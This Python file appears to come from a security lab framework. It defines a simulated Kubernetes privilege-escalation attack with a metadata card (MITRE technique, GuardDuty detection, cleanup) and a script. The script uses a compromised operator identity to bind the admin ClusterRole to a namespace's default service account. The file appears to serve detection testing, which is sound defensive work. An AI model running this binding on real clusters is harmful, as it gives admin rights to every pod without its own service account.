"""Attack: admin given to the default account.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="default-account-admin",
    title="Admin given to the default account",
    technique=base.Technique(id="T1098.006", name="Additional Container Cluster Roles", tactic="Privilege Escalation"),
    use_case=vocabulary.UseCase.PRIVILEGE_ESCALATION,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Binds the admin role to the default service account of a namespace, so that every pod without an "
        "account of its own becomes powerful."
    ),
    seen_by="A binding of admin to a default service account.",
    cleans_up="The binding is deleted.",
    victim=base.Part.OPERATOR,
    reach=base.Reach.CLUSTER,
    catalogues=("GuardDuty: AdminAccessToDefaultServiceAccount",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.OPERATOR, able=("POST", paths.group(paths.RBAC, "rolebindings")))
    thief = ctx.act_as(victim)
    homes = ctx.namespaces(other_than=[victim.namespace]) or [victim.namespace]
    namespace = ctx.rng.choice(homes)
    name = ctx.name("defaults")
    bindings = paths.group(paths.RBAC, "rolebindings", namespace)
    ctx.remove_later(f"{bindings}/{name}")
    body = {
        "apiVersion": paths.RBAC,
        "kind": "RoleBinding",
        "metadata": {"name": name},
        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": namespace}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
    }
    yield thief.create(bindings, body)
    yield thief.get(bindings)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
